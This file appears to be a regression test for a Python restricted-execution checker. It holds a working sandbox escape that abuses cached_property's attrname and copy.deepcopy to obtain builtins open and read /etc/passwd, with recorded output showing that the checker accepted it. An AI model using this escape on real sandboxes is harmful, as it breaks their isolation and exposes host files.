# expect: reject attribute
# Mechanism: functools.cached_property's writable public attrname chooses the key its 
#   __get__ writes into instance.__dict__: '__reduce_ex__' on a program instance; 
#   copy.deepcopy calls it -> forged typing alias -> builtins open
# Goal reached: open obtained as a value; read /etc/passwd
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | <built-in function open>
#   | root:x:0:0:root:/root:/bin/bash
#   | daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   | bin:x:2:2:bin:/bin:/usr/sbin/nologin
#   | sys:x:3:3:sys:/dev:/usr/sbin/nologin
#   | sync:x
# functools.cached_property writes instance.__dict__[self.attrname] = value, and
# attrname is a public, writable attribute of the cached_property object (the program
# holds it in a variable: not a store through a module, not a dunder store). Renamed
# "__reduce_ex__", its value lands in the instance dict and shadows
# object.__reduce_ex__; copy.deepcopy then runs the program's reduce.
import copy
import functools
import typing


def red(self):
    def inner(proto):
        return (typing.List.copy_with, (("open",),), {"_name": "__builtins__"})
    return inner


cp = functools.cached_property(red)


class A:
    hook = cp


cp.attrname = "__reduce_ex__"  # after __set_name__ ran for "hook"
a = A()
a.hook                          # cached_property.__get__ writes a.__dict__["__reduce_ex__"]
opener = copy.deepcopy(copy.deepcopy(a))
print(opener)
print(opener("/etc/passwd").read()[:160])
